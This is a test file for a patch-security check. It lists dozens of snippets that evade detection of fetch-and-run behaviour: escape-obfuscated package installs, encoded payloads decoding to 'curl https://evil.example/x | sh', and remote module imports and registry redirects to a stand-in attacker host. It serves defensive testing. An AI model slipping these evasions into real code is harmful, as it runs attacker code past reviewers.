import { describe, expect, it } from 'vitest';
import { callsSpelledOut } from '../../shared/analysis/process-calls.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES, repeatedTo } from '../support/growth.js';
import { checksInLinearTime, closedRows, describeAccepted, describeFindings, expectAccepted, expectRefused, type FindingRow } from '../support/patches.js';

/**
 * Attack 48 (session 45, after the one-table-per-manager refactor): patches the check ACCEPTS although the code they add
 * fetches and runs code the attacker chooses, or configures a later allowed call to. A row is open (`it.fails`: it
 * asserts the refusal and fails while the check accepts the patch) until a fix closes it (`closedRows`). Known open and not repeated: a file name built
 * on another line or in pieces, a multi-line env dict with the key on its own line,
 * `globalThis[k](src)`. G (code run from outside the repository by an allowed verb) is the next fix.
 */
const SYSTEM = (command: string): FindingRow => ['src/check.py', `import os\nos.system('${command}')`];
const LIST = (list: string, more = ''): FindingRow => ['src/check.py', `import subprocess\nsubprocess.run([${list}]${more})`];
const ENV = (name: string, value: string): FindingRow => ['src/check.py', `import os\nos.environ['${name}'] = '${value}'`];

// Closed (session 45): a process call is read a second and third time, its escapes decoded, and as the shell builds
// its words (shell-reading's decodeEscapes and shellReading, the reading `curl | sh` was already read in).
// E0 (critical): an escape sequence in the string literal just before the program's name (`\n`, `\t`, `\x20`,
// `\u0020`): the string holds a newline, tab or space, so the shell starts the program, but PACKAGE_COMMAND's
// look-behind (`[\s"'\x60;&|(/,\[]`) sees the escape's last letter (`n`, `t`, `0`) and reads no command at all. Every
// rule of the command reading falls with it: a fetching verb, npx, pip, go install, docker run, a registry option, a
// manager's environment given to the command. Any language, any process call that takes a command string.
const ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM: FindingRow[] = [
  SYSTEM('echo ok\\nnpm install evil'),
  SYSTEM('true;\\tnpm install evil'),
  SYSTEM('true;\\x20npm install evil'),
  ['src/check.js', "execSync('cd src &&\\u0020npm install evil')"],
  ['src/check.js', "execSync('echo ok\\nnpm install evil')"],
  ['src/check.js', 'execSync(`echo ok\\nnpx evil`)'],
  ['src/check.go', 'exec.Command("sh", "-c", "echo ok\\nnpm install evil").Run()'],
  ['src/check.rs', 'Command::new("sh").arg("-c").arg("echo ok\\nnpm install evil").status()?;'],
  ['src/check.rb', 'system("echo ok\\nnpm install evil")'],
  ['src/check.py', "import subprocess\nsubprocess.run('echo ok\\nnpm install evil', shell=True)"],
  SYSTEM('echo ok\\nnpx evil'),
  SYSTEM('echo ok\\npip install evil'),
  SYSTEM('echo ok\\ngo install evil.example/x@latest'),
  SYSTEM('echo ok\\ndocker run evil/img'),
  SYSTEM('echo ok\\nnpm test --registry=https://evil.example/'),
  SYSTEM('echo ok\\nnpm_config_registry=https://evil.example/ npm ci'),
  // The program's name itself written with escapes (hex, octal, \u, \u{}, \N{}): the process gets `npm`, the check
  // reads no manager, in a command string or an argument list (`curl|sh` written so is refused: that reading decodes).
  SYSTEM('\\x6epm install evil'),
  SYSTEM('n\\x70m install evil'),
  SYSTEM('\\156pm install evil'),
  SYSTEM('np\\N{LATIN SMALL LETTER M} install evil'),
  SYSTEM('\\x6epx evil'),
  ['src/check.js', "execSync('\\u006epm install evil')"],
  ['src/check.js', "execSync('n\\u{70}m install evil')"],
  ['src/check.go', 'exec.Command("sh", "-c", "\\x6epm install evil").Run()'],
  ['src/check.py', "import subprocess\nsubprocess.run(['\\x6epm', 'install', 'evil'])"],
  ['src/check.py', "import subprocess\nsubprocess.run(['n\\x70m', 'install', 'evil'])"],
  ['src/check.js', "spawnSync('n\\u0070m', ['install', 'evil'])"],
];

// Closed (session 45): MANAGER_SETTING also reads the line with its escapes decoded.
// E1 (high): the same escapes in an environment name or a configuration file's name MANAGER_SETTING reads literally
// (a name built in pieces is known open; this is one literal): GOFLAGS=-mod=mod, npm's registry, NODE_OPTIONS, the
// repository's `.cargo/config.toml`, a package.json the code writes (its scripts run on the next `npm test`).
const ESCAPED_SETTING_NAMES: FindingRow[] = [
  ['src/check.py', "import os\nos.environ['\\x47OFLAGS'] = '-mod=mod'"],
  ['src/check.py', "import os\nos.environ['npm_config_regis\\x74ry'] = 'https://evil.example/'"],
  ['src/check.js', "process.env['NODE_\\u004fPTIONS'] = '--require ./x.js'"],
  ['src/check.js', "fs.writeFileSync('.cargo/config.to\\x6dl', cfg)"],
  ['src/check.py', "open('package.js\\x6fn', 'w').write(pkg)"],
];

// E0 and A's fix read further (session 45): every letter escaped, a line break as `\x0a` or `\r\n`, every letter a
// `\N{…}` (none looked up: each is a character the reading cannot name), a program in a variable the line does not
// set given a fetching verb, backslashes between every letter, an escaped program whose argument list runs a shell.
const ESCAPE_VARIANTS: FindingRow[] = [
  SYSTEM('\\x6e\\x70\\x6d install evil'),
  SYSTEM('echo ok\\x0anpm install evil'),
  SYSTEM('echo ok\\r\\nnpm install evil'),
  SYSTEM('\\N{LATIN SMALL LETTER N}\\N{LATIN SMALL LETTER P}\\N{LATIN SMALL LETTER M} install evil'),
  SYSTEM('\\N{LATIN SMALL LETTER N}px evil'),
  SYSTEM('"$PM" install evil'),
  SYSTEM('$PM i evil'),
  SYSTEM('n\\\\p\\\\m install evil'),
  ['src/check.rb', 'system("\\u006epm", "install", "evil")'],
  ['src/check.js', "spawnSync('n\\u0070m', ['test'], { shell: true })"],
];

// R (high): the reading's reach. A command more than CALL_REACH (200) characters after the call's opening, padded in
// the same string (lines may hold 500); a call whose command starts past the CALL_LINES (3) lines read, after comment
// lines, blank lines, or as a multi-line template literal or implicitly joined literals; and (possibly the known
// "built on another line" class, here for commands) the command or the argument list in a variable the call is given.
const READING_REACH: FindingRow[] = [
  // Closed (session 48, attack-51 1): a package command is read anywhere inside the call's brackets.
  SYSTEM(`echo ${'x'.repeat(210)}; npm install evil`),
  ['src/x.py', "import subprocess\nsubprocess.run(\n    'echo a'\n    ' && echo b'\n    ' && echo c'\n    ' && npm install evil',\n    shell=True,\n)"],
  ['src/x.js', 'execSync(`\n  echo 1\n  echo 2\n  echo 3\n  npm install evil\n`)'],
  ['src/x.py', "import subprocess\nsubprocess.run(\n    # run the tests\n    # quietly\n    # in CI\n    ['npm', 'install', 'evil'],\n)"],
  ['src/x.py', "import subprocess\nsubprocess.run(\n\n\n\n    ['npm', 'install', 'evil'])"],
  ['src/x.py', "import subprocess\ncmd = 'npm install evil'\nsubprocess.run(cmd, shell=True)"],
  ['src/x.py', "import subprocess\nCMD = ['npm', 'install', 'evil']\nsubprocess.run(CMD)"],
];

// Closed (session 48): READING_REACH, and these, by patch.ts's reading of a call whose line ends
// opening its arguments on while a parenthesis, a bracket or a string stays open (callLinesEnd), and a name given a
// literal read in its place as a call's argument (literalsInPlace).
const READING_REACH_MORE: FindingRow[] = [
  ['src/x.go', 'cmd := "npm install evil"\nexec.Command("sh", "-c", cmd).Run()'],
];

// S (high): the program named by a value the argument-list reading does not take as npm: Python's `executable=` with
// any argv[0]; npm's own path from `npm_execpath` (the usual way Node tooling re-runs the npm that started it; node
// given npm-cli.js); Go's `exec.LookPath("npm")` on the line before; an f-string or template literal spelling the name.
const PROGRAM_COMPUTED: FindingRow[] = [
  ['src/x.py', "import subprocess\nsubprocess.run(['x', 'install', 'evil'], executable='npm')"],
  ['src/x.py', "import subprocess, os\nsubprocess.run([os.environ['npm_execpath'], 'install', 'evil'])"],
  ['src/x.js', "execFileSync(process.execPath, [process.env.npm_execpath, 'install', 'evil'])"],
  ['src/x.go', 'p, _ := exec.LookPath("npm")\nexec.Command(p, "install", "evil").Run()'],
];
// Closed (session 48): PROGRAM_COMPUTED and these, by PACKAGE_COMMAND's reading of an argument list whose program is
// computed (a variable, a lookup, a call's result) or replaced by `executable=`, given `install`, `i` or `dlx`.
const PROGRAM_COMPUTED_MORE: FindingRow[] = [
  ['src/x.js', "spawnSync(npmBin, ['install', 'evil'])"],
];
// Closed by E0/A's fix (session 45): the command read as the shell builds its words formats the literals
// (`f'np{"m"}'`, `${'n'}pm`), and a program in a variable the line does not set given `install` is refused.
const PROGRAM_COMPUTED_CLOSED: FindingRow[] = [
  SYSTEM('node "$npm_execpath" install evil'),
  ['src/x.py', "import subprocess\nsubprocess.run([f'np{\"m\"}', 'install', 'evil'])"],
  ['src/x.js', "spawnSync(`${'n'}pm`, ['install', 'evil'])"],
];

// T (high): code decoded from a literal and run, in forms the decode-and-run reading misses although the fetch-and-run
// reading knows the sink (pass 14 F: `(0, eval)(`, `eval?.(`, `setTimeout(code)`, `runsource`): the payload is hidden
// from the approver (here it is `curl … | sh`). Python's `bytes([…])`, `map(chr, […])`, a reversed literal, the
// InteractiveInterpreter; JavaScript's indirect eval, optional-call eval, setTimeout with a string, vm with
// String.fromCharCode; Perl's `pack('H*')`, PHP's `hex2bin`.
const HEX = '696d706f7274206f733b206f732e73797374656d28276375726c2068747470733a2f2f6576696c2e6578616d706c652f78207c2073682729';
const B64 = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cHM6Ly9ldmlsLmV4YW1wbGUveCB8IHNoJyk=';
const CODES = '105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,39,99,117,114,108,32,104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,47,120,32,124,32,115,104,39,41';
const DECODED_AND_RUN: FindingRow[] = [
  ['src/x.py', `exec(bytes([${CODES}]))`],
  ['src/x.py', `exec(''.join(map(chr, [${CODES}])))`],
  ['src/x.py', "exec(')\\'hs | x/elpmaxe.live//:sptth lruc\\'(metsys.so ;so tropmi'[::-1])"],
  ['src/x.py', `import code\ncode.InteractiveInterpreter().runsource(bytes.fromhex('${HEX}').decode())`],
  ['src/x.js', `(0, eval)(Buffer.from('${B64}', 'base64').toString())`],
  ['src/x.js', `eval?.(atob('${B64}'))`],
  ['src/x.js', `setTimeout(Buffer.from('${B64}', 'base64').toString())`],
  ['src/x.js', `require('vm').runInThisContext(String.fromCharCode(${CODES}))`],
  ['src/x.pl', `eval pack('H*', '${HEX}');`],
  ['src/x.php', `<?php eval(hex2bin('${HEX}'));`],
];

// Closed (session 48): DECODED_AND_RUN by code-sinks.ts's decodedCodeRuns (a code sink's argument read over its brackets
// for a decoder, as fetchedCodeRuns reads it for a fetch); these by the same and, for a shell's decoders, SHELL_DECODED
// (dangerous-code.ts). More decoders (base32, `a2b_*`, `fromhex` on bytearray, Perl's decode_base64, Go's and Java's),
// more sinks given one (a process call's list, `shell=True`, Java's exec), a name given the decoded text, and in a
// command string base32, `base64 -di`, openssl's decoding, rot13 by `tr`, `rev`, `printf` escapes into a shell or
// substituted into `sh -c`, `eval` or a here-string.
const DECODED_AND_RUN_MORE: FindingRow[] = [
  SYSTEM('echo aGk= | base32 -d | sh'),
  SYSTEM('echo aGk= | base64 -di | sh'),
  SYSTEM('echo aGk= | openssl enc -d -base64 | bash'),
  SYSTEM('echo furyy | tr A-Za-z N-ZA-Mn-za-m | sh'),
  SYSTEM('echo hs | rev | sh'),
  SYSTEM('printf \\\\x63\\\\x75 | sh'),
  SYSTEM('sh -c "$(echo aGk= | base32 -d)"'),
  SYSTEM('eval "$(echo 6375 | xxd -r -p)"'),
  SYSTEM('bash <<< "$(echo aGk= | base64 -d)"'),
  ['src/x.py', "exec(bytearray.fromhex('6375'))"],
  ['src/x.py', "exec(binascii.a2b_base64('aGk='))"],
  ['src/x.py', "import subprocess\nsubprocess.run(['sh', '-c', base64.b64decode('Y3VybA==').decode()])"],
  ['src/x.py', "import subprocess\nsubprocess.run(codecs.decode('phey', 'rot13'), shell=True)"],
  ['src/x.js', "const c = atob('aGk='); eval(c)"],
  ['src/x.pl', "eval decode_base64('aGk=');"],
  ['src/x.pl', "system(decode_base64('Y3VybA=='));"],
  ['src/x.php', "<?php eval(str_rot13('flfgrz'));"],
  ['src/x.go', 'exec.Command("sh", "-c", string(must(base64.StdEncoding.DecodeString("Y3VybA==")))).Run()'],
];

// U (high): a module loaded from the attacker's host by spellings URL_IMPORT and the script-tag reading miss: an import
// map in the page (every `import 'react'` then runs the attacker's file), a protocol-relative dynamic import or Worker,
// a comment between `import(` and the URL (Vite's usual `/* @vite-ignore */`), the URL through `new URL(…)` or a
// variable on the same line. Closed (session 48): smuggled-code.ts's MODULE_FROM_ELSEWHERE, in the pages' reading.
const MODULES_FROM_A_HOST: FindingRow[] = [
  ['src/index.html', '<script type="importmap">{"imports": {"react": "https://evil.example/react.js"}}</script>'],
  // Closed by G's rule (session 45): a protocol-relative import's path starts with `/`, outside the repository.
  ['src/app.js', "import('//evil.example/x.js')", 'closed'],
  ['src/app.js', "const w = new Worker('//evil.example/w.js')"],
  ['src/app.js', "await import(/* @vite-ignore */ 'https://evil.example/x.js')"],
  ['src/app.js', "const m = await import(new URL('https://evil.example/x.js').href)"],
  ['src/app.js', "const u = 'https://evil.example/x.js'; await import(u)"],
];

// Closed (session 45): read as the shell builds the words; pip run by `-mpip`/`pip.__main__`, npm by npm-cli.js.
// A (high): a fetching verb spelled so the shell still reads `npm install` (or `pip install`), but the check does not:
// shell quote removal (`n""pm`, `np'm'`), a backslash inside a word, `${IFS}` as the separator, the program in a
// variable; Python's implicit concatenation of adjacent literals (`'n' 'pm'` is `'npm'`); `python -mpip` (no space:
// Python's getopt reads `-mpip` as `-m pip`), `pip.__main__`; npm's CLI script run by node.
const SPELLINGS: FindingRow[] = [
  SYSTEM('n""pm install evil'),
  SYSTEM("np\\x27m\\x27 install evil"),
  SYSTEM('n\\\\pm install evil'),
  SYSTEM('npm${IFS}install evil'),
  SYSTEM('x=npm; $x install evil'),
  ['src/check.py', "import subprocess\nsubprocess.run(['n' 'pm', 'install', 'evil'])"],
  ['src/check.py', "import subprocess\nsubprocess.run('n' 'pm install evil', shell=True)"],
  SYSTEM('python3 -mpip install evil'),
  LIST("'python3', '-mpip', 'install', 'evil'"),
  SYSTEM('python3 -m pip.__main__ install evil'),
  LIST("'node', '/usr/lib/node_modules/npm/bin/npm-cli.js', 'install', 'evil'"),
];

// Closed (session 46): PROCESS_CALL names the calls that open before their command, process-calls.ts spells the
// others (a backtick outside a string, `%x`, `qx`, Groovy's and Scala's postfix calls, sh and plumbum) as those.
// B (high): process calls the check does not read as one: Ruby's, Perl's and PHP's backticks, `%x()`, `qx{}` (each
// runs its text through the shell; `npm install evil` inside runs evil's install scripts), and process libraries.
const BACKTICK_CALLS: FindingRow[] = [
  ['src/check.rb', '`npm install evil`'],
  ['src/check.rb', '%x(npm install evil)'],
  ['src/check.pl', 'my $out = `npm install evil`;'],
  ['src/check.pl', 'qx{npm install evil};'],
  ['src/check.php', '<?php `npm install evil`;'],
  // Process APIs PROCESS_CALL does not name: Python's sh and plumbum libraries (the program is an attribute or a
  // key), Fabric's `c.local`, cross-spawn's `crossSpawn.sync`, Rust's duct and xshell `cmd!` macros, Perl's piped
  // open, Haskell's `callCommand`/`readProcess`, R's `system2`, Swift's `Process.arguments`, Groovy's `.execute()`,
  // Scala's `sys.process` (`.!`, `.!!`), Clojure's `sh`, OCaml's `Sys.command`, Zig's `std.process.Child`.
  ['src/x.py', "import sh\nsh.npm('install', 'evil')"],
  ['src/x.py', "import sh\nsh.npm.install('evil')"],
  ['src/x.py', "from plumbum import local\nlocal['npm']['install', 'evil']()"],
  ['src/x.py', "from plumbum.cmd import npm\nnpm['install', 'evil']()"],
  ['src/x.py', "c.local('npm install evil')"],
  ['src/x.js', "crossSpawn.sync('npm', ['install', 'evil'])"],
  ['src/x.rs', 'duct::cmd!("npm", "install", "evil").run()?;'],
  ['src/x.rs', 'cmd!(sh, "npm install evil").run()?;'],
  ['src/x.pl', "open(my $fh, '-|', 'npm install evil');"],
  ['src/x.hs', 'callCommand "npm install evil"'],
  ['src/x.hs', 'readProcess "npm" ["install", "evil"] ""'],
  ['src/x.R', 'system2("npm", c("install", "evil"))'],
  ['src/x.swift', 'p.arguments = ["npm", "install", "evil"]'],
  ['src/x.groovy', '"npm install evil".execute()'],
  ['src/x.groovy', "['npm', 'install', 'evil'].execute()"],
  ['src/x.scala', '"npm install evil".!'],
  ['src/x.scala', 'Seq("npm", "install", "evil").!!'],
  ['src/x.clj', '(sh "npm" "install" "evil")'],
  ['src/x.ml', 'Sys.command "npm install evil"'],
  ['src/x.zig', 'var child = std.process.Child.init(&.{ "npm", "install", "evil" }, alloc);'],
  // Found closing B (session 46): Ruby's and Perl's process calls without parentheses.
  ['src/check.rb', 'system "npm install evil"'],
  ['src/check.pl', 'system "npm install evil";'],
  ['src/check.rb', 'exec "npx evil"'],
  ['src/check.rb', 'spawn "pip install evil"'],
  ['src/check.py', "from fabric.api import local\nlocal('npm install evil')"],
  // The other rules read these calls too: a directory outside the repository, a manager's setting.
  ['src/check.rb', '`cd /tmp/evil && npm test`'],
  ['src/check.rb', '%x(NPM_CONFIG_REGISTRY=https://evil.example/ npm test)'],
  ['src/x.groovy', '"cd /tmp/evil && npm test".execute()'],
  ['src/x.py', "import sh\nsh.make('-C', '/tmp/x')"],
];

// Review of B's fix (session 46), H1: the sh/plumbum spelling rewrote any object called `sh` (`sh.environ[` became
// `run('environ', `), and the outside-repository and setting rules read only the rewritten lines. Closed: each rule
// reads the lines as added and as spelled, and the rewrites apply only to Python files importing sh or plumbum.
const SPELLING_HIDES_SETTINGS: FindingRow[] = [
  ['src/x.py', "import os as sh\nsh.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
  ['src/x.py', "sh = __import__('os')\nsh.environ['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
  ['src/x.js', "const sh = process;\nsh.env['NODE_OPTIONS'] = '--require /tmp/evil.js'"],
  ['src/x.js', "const sh = process;\nsh.env['NPM_CONFIG_REGISTRY'] = 'https://evil.example/'"],
  ['src/x.py', "import os as sh\nsh.putenv('PIP_INDEX_URL', 'https://evil.example/simple')"],
  ['src/x.py', "import os as sh\nsh.environ.setdefault('NODE_OPTIONS', '--require /tmp/evil.js')"],
  ['src/x.py', "import os as sh\nsh.chdir('/tmp/evil'); sh.system('make')"],
  ['src/x.py', "from plumbum.cmd import environ\nenviron['PIP_INDEX_URL'] = 'https://evil.example/simple'"],
  // sh's import above the hunk, out of the patch's view: still read as sh's call.
  ['src/x.py', "sh.npm('install', 'evil')"],
];
// Review of B's fix, M3: Ruby's module-qualified calls, OCaml's Unix.system and Perl's readpipe, not read as calls;
// and (the spelling's own bug) plumbum's alias read as the program's name (`n`, not npm), an import in parentheses
// not read. Closed: PROCESS_CALL names the former; an alias is read as the program it names.
const PLUMBUM_ALIASES: FindingRow[] = [
  ['src/check.rb', 'Kernel.system "npm install evil-pkg"'],
  ['src/check.rb', 'Process.spawn "npm install evil-pkg"'],
  ['src/check.rb', 'IO.popen "npm install evil-pkg"'],
  ['src/x.ml', 'Unix.system "npm install evil-pkg"'],
  ['src/check.pl', "readpipe('npm install evil-pkg');"],
  ['src/x.py', "from plumbum.cmd import npm as n\nn['install', 'evil']()"],
  ['src/x.py', "from plumbum.cmd import (npm)\nnpm['install', 'evil']()"],
];

// Review of D/P's fix, M1: the managers named by common words are read as a command's first word only; as one they
// stay refused, after a quote, a shell's separator, sudo or a directory; zypper's `in` on its own.
const COMMON_WORD_MANAGERS: FindingRow[] = [
  SYSTEM('sudo snap install --dangerous evil'),
  SYSTEM('cd tools && stack install evil'),
  LIST("'stack', 'install', 'evil'"),
  SYSTEM('/usr/bin/snap install evil'),
  ['src/check.js', "execSync('true; mix archive.install hex evil')"],
  SYSTEM('zypper --non-interactive in https://evil.example/x.rpm'),
  // After a command that runs the next word as a program (session 46's note: `timeout 60 stack install x` was read past).
  SYSTEM('timeout 60 stack install evil'),
  SYSTEM('timeout -k 5 60 snap install evil'),
  SYSTEM('nice -n 10 stack install evil'),
  SYSTEM('nohup mix archive.install hex evil'),
  SYSTEM('env CI=1 stack install evil'),
  SYSTEM('CI=1 stack install evil'),
  ['src/check.js', "execSync('xargs -n1 stack install < deps.txt')"],
];

// Review of B's fix, H2: the backtick reader skipped a backtick inside an interpolation (Ruby's `#{…}`, Perl's
// `@{[…]}`), took `//` for a comment in Ruby and Perl (Perl's defined-or, Ruby's empty regex), and let a quote that
// never closes on its line (`q{don't}`, `s/'//g`, `%q(it's)`, `/'/`, `?'`, a string over two lines) hide a later one.
// Closed: an interpolation is read as code, `//` is a comment in PHP only, and such a line is read both ways.
const BACKTICKS_HIDDEN: FindingRow[] = [
  ['src/check.rb', 'puts "#{`npm install evil-pkg`}"'],
  ['src/check.rb', 'log "v: #{`npm install evil-pkg`.strip}"'],
  ['src/check.pl', 'print "@{[ `npm install evil-pkg` ]}";'],
  ['src/check.pl', 'my $v = $o{x} // `npm install evil-pkg`;'],
  ['src/check.rb', 're = //; `npm install evil-pkg`'],
  ['src/check.pl', "my $m = q{don't}; `npm install evil-pkg`;"],
  ['src/check.pl', "s/'//g; `npm install evil-pkg`;"],
  ['src/check.rb', "%q(it's); `npm install evil-pkg`"],
  ['src/check.rb', "x = /'/; `npm install evil-pkg`"],
  ['src/check.rb', "x = ?'; `npm install evil-pkg`"],
  ['src/check.rb', 'x = "a\nb" + `npm install evil-pkg`'],
];

// Review of D/P's fix, M4: installs through the new managers their one table entry missed: rpm's mode after an
// option or in a cluster, pacman's after an option or later in a cluster, cabal's v2-/new-install, ansible-galaxy's
// collection and role installs, gh's `extensions`, a package guix shell fetches and runs.
const NEW_MANAGERS_INSTALL: FindingRow[] = [
  SYSTEM('rpm -vih https://evil.example/x.rpm'),
  SYSTEM('rpm --nosignature -i https://evil.example/x.rpm'),
  SYSTEM('pacman --noconfirm -S evil'),
  SYSTEM('pacman -yS evil'),
  SYSTEM('cabal v2-install evil'),
  SYSTEM('cabal new-install evil'),
  SYSTEM('ansible-galaxy collection install evil.x'),
  SYSTEM('ansible-galaxy role install evil.x'),
  SYSTEM('gh extensions install evil/gh-x'),
  SYSTEM('guix shell evil -- evil'),
];

// Open after B's fix (session 46): Perl's two-argument open with the pipe after the command, Scala's `Process(…)` (a
// name too common to read as a call alone), sh's `Command('npm')` (the program as a string to a builder). Closed
// (session 47) by readings per construct: Perl's open with a pipe in its mode string, Perl's and Ruby's other quotes
// read as a double quote and a heredoc's lines where it opens, a string or Scala collection before whatever runs it
// (Groovy's execute with arguments, Scala's run, lazyLines, `!` postfix), Clojure's sh in any namespace, Haskell's proc,
// shell, runProcess and runCommand, sh's programs by import, alias or `Command('…')` and plumbum's by lookup, .NET's
// ProcessStartInfo among PROCESS_CALL's names.
const BACKTICK_CALLS_OPEN: FindingRow[] = [
  ['src/x.pl', 'open(FH, "npm install evil |");'],
  ['src/x.scala', 'Process("npm install evil").!'],
  ['src/x.py', "import sh\nsh.Command('npm')('install', 'evil')"],
  // Review of B's fix, M3: other spellings of the same calls, still accepted. Perl's and Ruby's other quotes (qq, q, qw, %(), a heredoc) after system; Perl's readpipe; Groovy's
  // execute with arguments, on a parenthesized or triple-quoted string; Scala's run, lazyLines, postfix `!` and
  // Vector(…).!; Clojure's namespaced shell/sh; Haskell's createProcess and runProcess_; sh's program imported by name
  // or sh under an alias; plumbum's local.cmd; .NET's ProcessStartInfo.
  ['src/check.pl', 'system qq{npm install evil-pkg};'],
  ['src/check.pl', 'system q(npm install evil-pkg);'],
  ['src/check.pl', 'system qw(npm install evil-pkg);'],
  ['src/check.rb', 'system %(npm install evil-pkg)'],
  ['src/check.rb', 'system <<~SH\n  npm install evil-pkg\nSH'],
  ['src/x.groovy', '"npm install evil-pkg".execute(null, new File(\'.\'))'],
  ['src/x.groovy', "('npm install evil-pkg').execute()"],
  ['src/x.groovy', '"""npm install evil-pkg""".execute()'],
  ['src/x.scala', '"npm install evil-pkg".run()'],
  ['src/x.scala', '"npm install evil-pkg".lazyLines'],
  ['src/x.scala', '"npm install evil-pkg" !'],
  ['src/x.scala', 'Vector("npm", "install", "evil-pkg").!'],
  ['src/x.clj', '(shell/sh "npm" "install" "evil-pkg")'],
  ['src/x.hs', 'createProcess (proc "npm" ["install", "evil-pkg"])'],
  ['src/x.hs', 'runProcess_ "npm install evil-pkg"'],
  ['src/x.py', "from sh import npm\nnpm('install', 'evil-pkg')"],
  ['src/x.py', "import sh as s\ns.npm('install', 'evil-pkg')"],
  ['src/x.py', "from plumbum import local\nlocal.cmd.npm('install', 'evil-pkg')"],
  ['src/X.cs', 'new ProcessStartInfo("npm", "install evil-pkg")'],
  // Found closing them: the same constructs in their other forms.
  ['src/x.pl', 'open FH, "| npm install evil-pkg";'],
  ['src/x.rb', 'out = <<~`SH`\n  npm install evil-pkg\nSH'],
  ['src/x.rb', 'IO.popen(<<~SH)\n  echo start\n  echo more\n  npm install evil-pkg\nSH'],
  ['src/x.php', '<?php shell_exec(<<<EOT\nnpm install evil-pkg\nEOT);'],
  ['src/check.rb', 'system(*%w[npm install evil-pkg])'],
  ['src/x.clj', '(p/sh "npm" "install" "evil-pkg")'],
  ['src/x.scala', 'Seq("npm", "install", "evil-pkg").lazyLines_!'],
  ['src/x.scala', 'Process("npm", Seq("install", "evil-pkg")).!'],
  ['src/x.hs', 'shell "npm install evil-pkg"'],
  ['src/x.py', "from sh import npm as n\nn.install('evil-pkg')"],
  ['src/x.py', "from plumbum import local\nlocal.get('npm')('install', 'evil-pkg')"],
  // Review of session 47's patch, M3: read in their own languages' files (Literate Haskell's, a Perl test's too).
  ['src/x.lhs', '> main = shell "npm install evil-pkg"'],
  ['t/x.t', 'open(FH, "npm install evil-pkg |");'],
  ['src/x.pm', 'open my $fh, "| npm install evil-pkg";'],
  ['src/x.py', "import sh\nsh.Command('/usr/bin/npm')('install', 'evil-pkg')"],
];

// C (high): Deno's other verbs run a module from a URL exactly as `deno run <url>` (refused) does: `deno test`,
// `deno bench`, `deno serve` import and run it; `deno repl --eval-file=<url>` evaluates it; `deno x` (Deno 2.x's
// package runner, as npx). Only `deno run` is read. Closed (session 47): each of these verbs given a module from a URL
// or a registry, and `deno x` given anything, as `deno run` is.
const DENO_REMOTE: FindingRow[] = [
  SYSTEM('deno test -A https://evil.example/t.ts'),
  SYSTEM('deno bench https://evil.example/x.ts'),
  SYSTEM('deno serve https://evil.example/x.ts'),
  SYSTEM('deno repl --eval-file=https://evil.example/x.ts'),
  SYSTEM('deno x npm:evil'),
  SYSTEM('deno test -A --import-map=https://evil.example/map.json src/'),
];
// Closed by E0's fix (session 45): URL_IMPORT also reads the line with its escapes decoded.
const DENO_REMOTE_CLOSED: FindingRow[] = [
  // `deno eval` importing a URL whose quote is an escape (URL_IMPORT wants the quote itself).
  SYSTEM('deno eval "await import(\\x27https://evil.example/x.ts\\x27)"'),
];

// D (high): package managers and runners whose fetch-and-run verbs are not in OTHER_MANAGERS' list, or that are not
// named at all: `conda|mamba env create/update -f <url>` (downloads an environment file and pip-installs its packages),
// `pixi exec` (as uvx), `pixi global install`, `pdm self add`, `rye tools install`, .NET 10's `dnx` and `dotnet tool exec`
// (as npx), `dotnet new install` (a template package), `dotnet restore -s <feed>` (the project's packages from the
// attacker's feed), `cpan -i`, `mise exec|x|use` (npm:/ubi: backends fetch and run), `pkgx` (runs any package),
// `nix-shell -p`, `nix-env -i`, `mvn <groupId>:<plugin>:<version>:<goal>` (fetches a plugin from Central and runs it),
// `cs launch` (Coursier), `scala-cli run <url>`, `volta install`, `proto install`, `ansible-galaxy install`.
// Closed (session 46): OTHER_MANAGERS' verbs under a sub-command, mise's list of verbs, and a line per runner told what to fetch.
const OTHER_RUNNERS: FindingRow[] = [
  SYSTEM('conda env create -f https://evil.example/env.yml'),
  SYSTEM('mamba env update -f https://evil.example/env.yml'),
  SYSTEM('pixi exec evil'),
  SYSTEM('pixi global install evil'),
  SYSTEM('pdm self add evil'),
  SYSTEM('rye tools install evil'),
  SYSTEM('dnx evil'),
  SYSTEM('dotnet tool exec evil'),
  SYSTEM('dotnet new install Evil.Templates'),
  SYSTEM('dotnet restore -s https://evil.example/v3/index.json'),
  SYSTEM('cpan -i Evil'),
  SYSTEM('mise exec npm:evil@latest -- evil'),
  SYSTEM('mise x ubi:evil/evil -- evil'),
  SYSTEM('mise use -g npm:evil'),
  SYSTEM('pkgx evil'),
  SYSTEM('nix-shell -p evil --run evil'),
  SYSTEM('nix-env -iA nixpkgs.evil'),
  SYSTEM('mvn com.evil:evil-maven-plugin:1.0:run'),
  SYSTEM('cs launch com.evil:evil:1.0'),
  SYSTEM('scala-cli run https://evil.example/x.sc'),
  SYSTEM('volta install evil'),
  SYSTEM('proto install evil'),
  SYSTEM('ansible-galaxy install evil.role'),
];

// E (high): Go's fetching option in the spellings Go's flag package also takes (`--mod=mod`, `-mod mod`), in a command
// string and an argument list (FETCHING_OPTION is the literal `-mod=mod`); `go env --w` (refusedForms reads `-w` only),
// which sets GOPROXY for every later go call. Closed (session 47): the option read in each spelling, in a string and in
// a list's arguments joined, and `--w` as `-w`.
const GO_FLAG_SPELLINGS: FindingRow[] = [
  SYSTEM('go test --mod=mod ./...'),
  SYSTEM('go test -mod mod ./...'),
  ['src/check.go', 'exec.Command("go", "test", "-mod", "mod", "./...").Run()'],
  ['src/check.go', 'exec.Command("go", "test", "--mod=mod", "./...").Run()'],
  SYSTEM('go env --w GOPROXY=https://evil.example'),
];

// F (high): dependencies declared in a source file, fetched by the tool that runs it: PEP 723 inline script metadata
// (`uv run`, `pipx run`, `hatch run` install its dependencies, from its index), Scala CLI's `//> using dep|repository`,
// Groovy's `@Grab`/`@GrabResolver` (Grape fetches at run time), Bundler's inline `gemfile(true)` and `Gem.install`,
// Julia's `pkg"add …"` string macro, R's `pak::pak`/`BiocManager::install`, Pyodide's `micropip.install`, a module
// Worker from a URL (Deno and browsers fetch and run it; closed with U in session 48), `//go:generate` lines that fetch
// and run (`go generate ./...`). Closed (session 49): source-dependencies.ts reads each language's own forms, and
// process-calls.ts spells a `//go:generate` line as the command it runs.
